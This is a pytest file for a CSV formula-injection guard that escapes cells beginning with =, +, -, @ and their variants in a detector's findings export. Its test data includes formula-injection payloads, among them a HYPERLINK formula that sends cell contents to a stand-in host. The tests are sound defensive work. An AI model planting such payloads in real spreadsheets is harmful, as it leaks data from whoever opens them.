"""No text of others is a formula in a spreadsheet, and every one can be had back."""

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cli.findings import Commas, Finding
from pipeline.cells import csv_line, guarded, unguarded

FIRST = "=+-@\t\r\n＝＋－＠"
FORMULAS = [*(f"{first}1" for first in FIRST), '=HYPERLINK("http://h.test/?"&A1)', "'=1", '"=1']
TEXTS = st.text(alphabet="\"'=+-@\t\r\n＝;,a1")


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_guarded(text):
    assert guarded(text) == f"'{text}"
    assert unguarded(f"'{text}") == text


@pytest.mark.parametrize(
    "text", ["", "a.mp4", "a=1", "1-2", " =1", "'", "'a", '"a"', "./-a.mp4", "0.5", "a;b", "a; -1"]
)
def test_other_texts_stay_as_they_are(text):
    assert guarded(text) == text == unguarded(text)


@pytest.mark.parametrize("first", FIRST)
@pytest.mark.parametrize("between", [";", "\t", "\r", "\n"])
def test_a_formula_inside_is_guarded_where_another_cell_could_begin(between, first):
    assert f"{between}'{first}1" in guarded(f"x{between}{first}1")
    assert f"{between}'\"{first}1" in guarded(f'x{between}"{first}1')


@given(TEXTS)
def test_the_text_can_be_had_back(text):
    assert unguarded(guarded(text)) == text


@given(TEXTS)
def test_programs_have_it_back_by_what_the_readme_says(text):
    readme = (Path(__file__).parents[2] / "README.md").read_text()
    (pattern,) = re.findall(r'`re\.sub\(r"""(.*)""", "", cell\)`', readme)
    assert re.sub(pattern, "", guarded(text)) == text


def test_texts_are_quoted_and_numbers_are_not():
    line = csv_line(["x;=1+1;.mp4", 'a "b"', "c\nd", 1, 0.5, None])
    assert line == '"x;\'=1+1;.mp4","a ""b""","c\nd",1,0.5,""\r\n'


@pytest.mark.parametrize("between", [",", ";", "\t"])
@given(TEXTS, TEXTS)
def test_no_cell_is_a_formula_whatever_a_spreadsheet_splits_at(between, one, other):
    text = csv_line([one, 1, other, one]) + csv_line([other, one])
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=between):
        assert not any(cell.lstrip("\t\r\n").startswith(tuple("=+-@＝")) for cell in row)


@given(TEXTS, TEXTS)
def test_cells_that_are_split_at_commas_are_the_texts(one, other):
    (row,) = csv.reader(io.StringIO(csv_line([one, other]), newline=""))
    assert [unguarded(cell) for cell in row] == [one, other]


@pytest.mark.parametrize("text", FORMULAS)
def test_rows_hold_guarded_texts_and_plain_numbers(text):
    written = io.StringIO(newline="")
    sink = Commas(written.write)
    sink.add(Finding(text, 1, -5, None, {"type": "about:blank", "detail": text}))
    answer = {
        "verdict": "manipulated",
        "probabilities": {"real": 0.25, "fake": 0.75},
        "faces": [],
        "summary": text,
        "reasons": [text],
        "media": {"sha256": "0", "duration_s": 1.5},
        "model": {"id": text, "digest": "sha256:0"},
    }
    sink.add(Finding(text, 2, 3, answer))
    lost, found = csv.DictReader(io.StringIO(written.getvalue(), newline=""))
    assert (lost["file"], lost["error"]) == (guarded(text), guarded(text))
    assert (lost["size"], lost["mtime_ns"]) == ("1", "-5")
    assert {found[name] for name in ("file", "summary", "reasons", "model")} == {guarded(text)}
    assert (found["fake"], found["duration_s"], found["faces"]) == ("0.75", "1.5", "0")
